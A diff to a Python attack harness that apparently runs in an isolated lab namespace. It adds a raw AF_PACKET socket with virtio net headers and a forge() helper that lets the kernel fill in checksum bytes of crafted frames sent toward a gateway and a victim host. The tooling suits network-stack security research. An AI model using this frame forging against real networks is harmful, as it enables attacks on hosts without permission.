@@ -1,6 +1,6 @@
 # What the attacks are made of. Runs in the attacker's namespace; the names in capitals and those of addresses are
 # defined before. `m` is the payload of the case at hand, `nonce` a small option that carries its mark.
-import ctypes, socket, subprocess
+import ctypes, socket, struct, subprocess
 from scapy.all import *
 from scapy.contrib.mpls import MPLS
 from scapy.contrib.igmp import IGMP
@@ -36,6 +36,13 @@ wire = conf.L2socket(iface='eth0')
 wire_ext = inside(EXT, lambda: conf.L2socket(iface='eth0'))
 def tx(frame): wire.send(frame)
 def tx_ext(frame): wire_ext.send(frame)
+
+unfinished = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+unfinished.setsockopt(263, 15, 1)  # SOL_PACKET, PACKET_VNET_HDR
+unfinished.bind(('eth0', 0))
+def forge(frame, start, offset):
+    """Leaves two bytes of the frame to the kernel, as if they were its checksum (struct virtio_net_hdr)."""
+    unfinished.send(struct.pack('=BBHHHH', 1, 0, 0, 0, start, offset) + bytes(frame))
 
 E = Ether(src=mac, dst=gw)
 V = Ether(src=mac, dst=victim_mac)
